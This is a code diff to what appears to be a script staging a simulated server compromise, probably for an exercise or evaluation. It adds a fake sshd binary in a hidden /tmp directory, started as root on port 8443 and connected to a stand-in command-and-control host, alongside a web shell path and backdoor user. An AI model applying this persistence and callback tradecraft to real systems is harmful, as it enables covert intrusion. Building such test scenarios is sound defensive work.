@@ -17,6 +17,9 @@ const C2 = { ip: "203.0.113.66", port: 443, name: "cdn-metrics.example" };
 const SECOND_C2 = { ip: "203.0.113.71", port: 8443, name: "static-assets.example" };
 const LAIR = { ip: "198.51.100.213", userAgent: "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali" };
 const WEB_SHELL = "/static/.thumb.php";
+/** A second way in, beside the system's own sshd. */
+const LISTENER = { binary: "/tmp/.X11-unix/.cache/sshd", port: 8443 };
+
 /** A user of its own, with a key. */
 const BACKDOOR = {
   user: "svc-backup",
@@ -193,9 +196,13 @@ account while you work.`,
         240,
         async () => {
           if (!(await process.alive())) return undefined;
+          await foothold.plant({
+            files: { [LISTENER.binary]: { content: "\u007fELF OpenSSH_8.7p1\n", mode: 0o755 } },
+          });
           const second = await foothold.start({
-            command: "/tmp/.X11-unix/.cache/sshd -D -p 8443",
+            command: `${LISTENER.binary} -D -p ${LISTENER.port}`,
             user: "root",
+            listensOn: [LISTENER.port],
           });
           const back = await second.connect({ ...SECOND_C2, label: "c2-second" });
           const what = `A second way out, to ${SECOND_C2.name}:${SECOND_C2.port}`;
